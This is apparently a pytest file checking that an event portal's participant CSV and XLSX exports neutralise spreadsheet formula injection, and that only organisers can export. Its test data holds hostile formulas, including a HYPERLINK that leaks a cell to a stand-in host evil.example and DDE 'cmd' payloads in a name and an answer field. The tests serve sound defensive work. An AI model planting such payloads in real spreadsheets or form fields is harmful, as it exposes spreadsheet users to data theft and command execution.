"""Participant exports: CSV and XLSX, with spreadsheet formulas neutralised."""

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from rmn_portal.audit import AuditEvent
from rmn_portal.events import services
from rmn_portal.events.exports import neutralise
from tests.factories import login

from .helpers import make_event

HOSTILE = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", "+1+1", "-2+3", "@SUM(A1)",
           "\t=1+1", "\r=1+1", " =1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_starts_are_neutralised(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["Ana Demić", "Đorđe", "a=b", "5", "2027-03-28 10:00", ""])
def test_ordinary_text_is_left_alone(value):
    assert neutralise(value) == value


@pytest.fixture
def hostile_event(db_session, organiser, make):
    event = make_event(organiser, questions=[{"label": "Note for us"}])
    attacker = make.user(make.org(name="=cmd|' /C calc'!A0"), name="=1+2")
    services.rsvp(attacker, event, "going", answers={"q1": "@SUM(1+1)*cmd|' /C calc'!A0"},
                  dietary_requirements="-2+3 vegan", accessibility_needs="+ramp")
    services.rsvp(make.user(make.org(), name="Jelena Đurđević"), event, "maybe")
    return event


def test_csv_export_neutralises_formulas_and_keeps_letters(client, organiser, hostile_event):
    login(client, organiser)
    response = client.get(f"/events/{hostile_event.id}/participants.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    assert response.headers["Cache-Control"] == "no-store"
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    header, first, second = rows
    assert header[:5] == ["Name", "Pronouns", "Organisation", "E-mail address", "Status"]
    assert "Note for us" in header and "Dietary requirements" not in header
    assert first[0] == "'=1+2" and first[2] == "'=cmd|' /C calc'!A0"
    assert first[header.index("Note for us")] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert second[0] == "Jelena Đurđević" and second[4] == "Maybe"
    for row in rows:
        for cell in row:
            assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_xlsx_export_has_no_formula_cells(client, organiser, hostile_event, db_session):
    login(client, organiser)
    response = client.get(f"/events/{hostile_event.id}/participants.xlsx?private=1")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    rows = [[cell for cell in row] for row in sheet.iter_rows()]
    header = [cell.value for cell in rows[0]]
    assert header[-2:] == ["Accessibility needs", "Dietary requirements"]
    values = [cell.value for cell in rows[1]]
    assert values[0] == "'=1+2"
    assert values[-2:] == ["'+ramp", "'-2+3 vegan"]
    assert all(cell.data_type != "f" for row in rows for cell in row)
    audit = db_session.scalar(select(AuditEvent).where(
        AuditEvent.action == "event.participants_exported"))
    assert audit.details == {"format": "xlsx", "private_fields": True}


def test_only_organisers_export(client, members, hostile_event):
    login(client, members[0])
    assert client.get(f"/events/{hostile_event.id}/participants.csv").status_code == 403
